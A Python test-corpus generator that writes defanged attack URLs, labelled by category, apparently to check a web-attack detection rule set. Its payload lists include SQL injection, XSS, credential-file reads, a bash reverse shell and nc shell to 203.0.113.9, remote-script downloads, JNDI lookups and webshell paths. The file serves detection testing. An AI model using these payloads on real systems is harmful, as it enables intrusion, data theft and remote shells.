#!/usr/bin/env python3
"""Generates attack_urls.txt: one attack request per line, "CATEGORY<TAB>URL" or
"CATEGORY<TAB>URL<TAB>USER_AGENT", where CATEGORY is the rule category that must
flag it. Payloads are written for this project (defanged: documentation IP ranges,
example domains) and multiplied by injection point and encoding, the way scanners
vary them. Deterministic. Run:
python3 tests/corpus/gen_attack.py > tests/corpus/attack_urls.txt
"""
import random
import urllib.parse

rng = random.Random(3)

payloads = {
    "sqli": [
        "1 union select 1,2,3--", "-1' union all select null,null,null-- -",
        "1' UNION SELECT username,password FROM users--", "1) union select @@version,2#",
        "1/**/UNION/**/SELECT/**/1,2", "1' or '1'='1", "1' or 1=1--", "admin'--",
        "1 and 1=1", "1' and 1=2 union select 1,table_name from information_schema.tables--",
        "1 and sleep(5)", "1' and (select 1 from (select(sleep(5)))a)--",
        "1;waitfor delay '0:0:5'--", "1 and benchmark(10000000,sha1(1))",
        "1 and extractvalue(1,concat(0x7e,database()))",
        "1' and updatexml(1,concat(0x7e,user()),1)--", "1;drop table users--",
        "1'; exec master..xp_cmdshell 'dir'--", "1 and 1=convert(int,@@version)",
        "1') or ('x'='x", "1\" or \"1\"=\"1", "1 or 2=2", "x' and ascii(substring(user(),1,1))>64--",
        "1 union select load_file('/etc/hosts')", "1;select pg_sleep(5)--",
    ],
    "xss": [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
        "\"><script>alert(document.cookie)</script>", "javascript:alert(1)",
        "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
        "'\"><img src=1 onerror=prompt(1)>", "<details open ontoggle=confirm(1)>",
        "\" onmouseover=\"alert(1)", "<a href=\"javascript:alert(1)\">x</a>",
        "<script src=//evil.example/x.js></script>", "';alert(String.fromCharCode(88,83,83))//",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ],
    "traversal": [
        "../../../../etc/hosts", "..%2f..%2f..%2fapp.ini", "....//....//....//etc/hosts",
        "..\\..\\..\\boot.ini", "%2e%2e/%2e%2e/%2e%2e/etc/hosts", "../../../../../../var/www/x",
        "..%252f..%252f..%252fetc%252fhosts", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/hosts",
    ],
    "lfi": [
        "/etc/passwd", "../../../etc/passwd%00", "/proc/self/environ",
        "php://filter/convert.base64-encode/resource=index.php", "file:///etc/shadow",
        "C:\\Windows\\win.ini", "/var/log/nginx/access.log", "expect://id",
        "php://input", "../../root/.ssh/id_rsa",
    ],
    "rfi": [
        "http://evil.example/shell.txt?", "https://evil.example/r57.txt?",
        "ftp://203.0.113.5/x.php", "http://203.0.113.5:8080/inc.php",
        "http://evil.example/c.txt??",
    ],
    "cmdi": [
        "127.0.0.1;id", "127.0.0.1|whoami", "127.0.0.1&&cat /etc/hosts", "x;uname -a",
        "x`id`", "$(whoami)", "x|wget http://203.0.113.9/a.sh", "x;curl http://203.0.113.9/",
        "x;ping -c 5 127.0.0.1", "x||sleep 5", "x;cat${IFS}/etc/hosts",
        "x;bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "x|nc -e /bin/sh 203.0.113.9 4444",
        "x;python3 -c 'import os'", "x%0aid", "x;rm -rf /tmp/x", "x&&powershell -enc AAAA",
    ],
    "ssti": [
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{7*'7'}}",
        "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{lipsum.__globals__['os'].popen('id').read()}}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "#set($x=1)", "{% import os %}",
    ],
    "php_injection": [
        "system('id');", "<?php phpinfo(); ?>", "eval($_POST[x]);", "phpinfo()",
        "assert(base64_decode('cGhwaW5mbygpOw=='))", "passthru('ls');",
        "${@print(md5(1))}", "file_put_contents('x.php','<?php ?>')", "$_GET[cmd]",
    ],
    "java_rce": [
        "${jndi:ldap://203.0.113.7:1389/a}", "${${lower:j}ndi:ldap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}", "${jndi:dns://evil.example/a}",
        "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
        "@java.lang.Runtime@getRuntime().exec('id')",
        "T(java.lang.Runtime).getRuntime().exec('id')",
        "${env:NaN:-j}", "${${upper:j}ndi:ldap://x/a}",
    ],
    "deserialization": [
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "aced00057372001a",
        "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", "ysoserial CommonsCollections1",
        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}", "AAEAAAD/////AQAAAAAAAAAMAgAAAF",
    ],
}
path_only = {
    "sensitive_file": [
        "/.git/config", "/.git/HEAD", "/.svn/entries", "/.env", "/.env.local", "/api/.env",
        "/backup.zip", "/www.tar.gz", "/db.sql", "/dump.sql.gz", "/wp-config.php.bak",
        "/index.php~", "/WEB-INF/web.xml", "/META-INF/MANIFEST.MF", "/phpinfo.php",
        "/info.php", "/.htpasswd", "/.aws/credentials", "/actuator/env", "/server-status",
        "/.DS_Store", "/config.php.old", "/wwwroot.rar", "/admin/.git/index",
        "/static/../.git/config", "/%2e%65%6e%76", "/.hg/hgrc", "/web.config.bak",
    ],
    "webshell": [
        "/uploads/shell.php", "/images/c99.php", "/r57.php", "/wso.php", "/b374k.php",
        "/files/cmd.jsp?cmd=whoami", "/x.php?cmd=id", "/tunnel.aspx", "/upload/x.php?a=eval($_POST['pass']);",
        "/alfa.php", "/cmd.asp?cmd=dir",
    ],
    "scanner": [
        "/nmaplowercheck1700000000", "/NmapUpperCheck1700000001", "/HNAP1/", "/evox/about",
        "/acunetix-wvs-test-for-some-inexistent-file", "/?x=abc.dnslog.cn",
        "/p?cb=http://q1w2e3.oast.fun/",
    ],
}
scanner_uas = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "gobuster/3.6", "Fuzz Faster U Fool v2.1.0", "DirBuster-1.0-RC1", "WPScan v3.8.25",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "masscan/1.3",
    "Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 Xray", "Mozilla/5.0 Goby/2.0",
    "Mozilla/5.0 Acunetix Web Vulnerability Scanner", "Mozilla/4.0 (compatible; AppScan)",
    "Mozilla/5.0 Yunjing", "Wfuzz/3.1", "dirsearch/0.4.3", "feroxbuster/2.10",
]
targets = ["/item.php?id=", "/search?q=", "/index.php?page=", "/view?file=", "/api/v1/lookup?name=",
           "/news/detail.jsp?id=", "/ping?host=", "/p?x=", "/download?f=", "/hello?name="]


def enc(p, mode):
    if mode == 0:
        return p.replace(" ", "%20")
    if mode == 1:
        return urllib.parse.quote(p, safe="")
    if mode == 2:
        return urllib.parse.quote(urllib.parse.quote(p, safe=""), safe="")
    if mode == 3:
        return urllib.parse.quote_plus(p).replace("%2F", "/")
    # random case, then encoded
    return urllib.parse.quote("".join(c.upper() if rng.random() < 0.5 else c for c in p),
                              safe="/")


out = []
for cat, ps in payloads.items():
    for p in ps:
        for mode in rng.sample(range(5), 3):
            out.append((cat, rng.choice(targets) + enc(p, mode)))
for cat, ps in path_only.items():
    for p in ps:
        out.append((cat, p))
for ua in scanner_uas:
    out.append(("scanner", rng.choice(["/", "/index.php", "/admin/", "/login"]), ua))
for line in out:
    print("\t".join(line))
